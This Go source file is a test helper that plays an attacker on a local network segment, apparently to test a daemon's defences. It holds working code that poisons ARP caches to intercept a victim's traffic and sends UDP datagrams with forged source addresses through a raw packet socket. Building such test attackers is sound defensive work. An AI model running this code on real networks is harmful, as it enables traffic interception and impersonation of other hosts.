// Command spoof plays an attacker on a segment, for the daemon's tests. It
// runs inside a container with NET_RAW and writes Ethernet frames of its own
// making to eth0 through a packet socket.
//
//	spoof arp -claim IP[,IP...] -victim IP -for DURATION
//	    answers ARP for the claimed addresses with its own MAC, to the
//	    victim and to everyone, for the duration, and meanwhile counts the
//	    victim's IPv4 packets that arrive at its MAC for someone else;
//	    prints "stolen N".
//	spoof udp -src IP -dst IP:PORT -msg TEXT
//	    sends one UDP datagram from the address IP (anyone's) to a
//	    neighbour on the segment; prints "sent".
//	spoof send -dst IP:PORT -msg TEXT
//	    sends one UDP datagram through an ordinary socket, as anyone may;
//	    prints "sent".
//	spoof listen -port PORT
//	    prints "SOURCE TEXT" for every UDP datagram that arrives.
package main

import (
	"bufio"
	"encoding/binary"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const ifName = "eth0"

func main() {
	if len(os.Args) < 2 {
		fail("usage: spoof arp|udp|send|listen ...")
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	claim := fs.String("claim", "", "addresses to answer ARP for, comma-separated")
	victim := fs.String("victim", "", "the instance whose traffic to steal")
	dur := fs.Duration("for", 5*time.Second, "how long to keep answering")
	src := fs.String("src", "", "source address of the datagram")
	dst := fs.String("dst", "", "destination address and port")
	msg := fs.String("msg", "", "the datagram's text")
	port := fs.Int("port", 0, "port to listen on")
	_ = fs.Parse(os.Args[2:])
	switch os.Args[1] {
	case "arp":
		arp(*claim, *victim, *dur)
	case "udp":
		udp(*src, *dst, *msg)
	case "send":
		c, err := net.Dial("udp4", *dst)
		check(err)
		_, err = c.Write([]byte(*msg))
		check(err)
		fmt.Println("sent")
	case "listen":
		listen(*port)
	default:
		fail("unknown command " + os.Args[1])
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "spoof:", msg)
	os.Exit(1)
}

func check(err error) {
	if err != nil {
		fail(err.Error())
	}
}

// self is eth0's index, MAC and IPv4 address.
func self() (*net.Interface, netip.Addr) {
	ifc, err := net.InterfaceByName(ifName)
	check(err)
	addrs, err := ifc.Addrs()
	check(err)
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return ifc, p.Addr()
		}
	}
	fail("eth0 has no IPv4 address")
	return nil, netip.Addr{}
}

// resolve returns the MAC of a neighbour: it sends it a datagram, so that
// the kernel asks for it, and reads the answer from /proc/net/arp.
func resolve(ip netip.Addr) net.HardwareAddr {
	if c, err := net.Dial("udp4", netip.AddrPortFrom(ip, 9).String()); err == nil {
		_, _ = c.Write([]byte("hello"))
		_ = c.Close()
	}
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		f, err := os.Open("/proc/net/arp")
		check(err)
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			// IP address, HW type, Flags, HW address, Mask, Device
			fl := strings.Fields(sc.Text())
			if len(fl) >= 6 && fl[0] == ip.String() && fl[2] == "0x2" {
				mac, err := net.ParseMAC(fl[3])
				check(err)
				_ = f.Close()
				return mac
			}
		}
		_ = f.Close()
	}
	fail("no MAC for " + ip.String())
	return nil
}

// packetSocket is a raw packet socket on eth0, for all protocols.
func packetSocket(ifc *net.Interface) int {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	check(err)
	check(unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: ifc.Index}))
	return fd
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func send(fd int, ifc *net.Interface, frame []byte) {
	var to [8]byte
	copy(to[:], frame[:6])
	check(unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: ifc.Index, Halen: 6, Addr: to}))
}

// arpReply is an ARP reply "ip is at mac" to (toMAC, to), sent to dst.
func arpReply(dst, mac net.HardwareAddr, ip netip.Addr, toMAC net.HardwareAddr, to netip.Addr) []byte {
	b := append([]byte{}, dst...)
	b = append(b, mac...)
	b = binary.BigEndian.AppendUint16(b, 0x0806)
	b = append(b, 0, 1, 8, 0, 6, 4, 0, 2) // Ethernet, IPv4, lengths, reply
	b = append(b, mac...)
	b = append(b, ip.AsSlice()...)
	b = append(b, toMAC...)
	b = append(b, to.AsSlice()...)
	return append(b, make([]byte, 60-len(b))...)
}

func arp(claims, victimIP string, dur time.Duration) {
	ifc, own := self()
	victim := netip.MustParseAddr(victimIP)
	victimMAC := resolve(victim)
	var ips []netip.Addr
	for _, c := range strings.Split(claims, ",") {
		ips = append(ips, netip.MustParseAddr(c))
	}
	fd := packetSocket(ifc)
	check(unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 50000}))
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	stolen := 0
	buf := make([]byte, 65536)
	next := time.Now()
	for end := time.Now().Add(dur); time.Now().Before(end); {
		if time.Now().After(next) {
			for _, ip := range ips {
				send(fd, ifc, arpReply(victimMAC, ifc.HardwareAddr, ip, victimMAC, victim))
				send(fd, ifc, arpReply(bcast, ifc.HardwareAddr, ip, victimMAC, victim))
			}
			next = time.Now().Add(100 * time.Millisecond)
		}
		n, from, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype == unix.PACKET_OUTGOING {
			continue
		}
		f := buf[:n]
		if n < 34 || binary.BigEndian.Uint16(f[12:]) != 0x0800 || string(f[:6]) != string(ifc.HardwareAddr) {
			continue
		}
		src, dst := netip.AddrFrom4([4]byte(f[26:30])), netip.AddrFrom4([4]byte(f[30:34]))
		if src == victim && dst != own {
			stolen++
		}
	}
	fmt.Printf("stolen %d\n", stolen)
}

func udp(srcIP, dstAddr, msg string) {
	ifc, _ := self()
	src := netip.MustParseAddr(srcIP)
	dst := netip.MustParseAddrPort(dstAddr)
	dstMAC := resolve(dst.Addr())
	b := append([]byte{}, dstMAC...)
	b = append(b, ifc.HardwareAddr...)
	b = binary.BigEndian.AppendUint16(b, 0x0800)
	ip := len(b)
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(28+len(msg)))
	b = append(b, 0, 0, 0x40, 0, 64, 17, 0, 0)
	b = append(b, src.AsSlice()...)
	b = append(b, dst.Addr().AsSlice()...)
	var sum uint32
	for i := ip; i < ip+20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(b[ip+10:], ^uint16(sum))
	b = binary.BigEndian.AppendUint16(b, 40000)
	b = binary.BigEndian.AppendUint16(b, dst.Port())
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(msg)))
	b = append(b, 0, 0)
	b = append(b, msg...)
	fd := packetSocket(ifc)
	send(fd, ifc, b)
	fmt.Println("sent")
}

func listen(port int) {
	c, err := net.ListenPacket("udp4", fmt.Sprintf(":%d", port))
	check(err)
	buf := make([]byte, 1500)
	for {
		n, from, err := c.ReadFrom(buf)
		check(err)
		fmt.Printf("%s %s\n", from.(*net.UDPAddr).IP, buf[:n])
	}
}
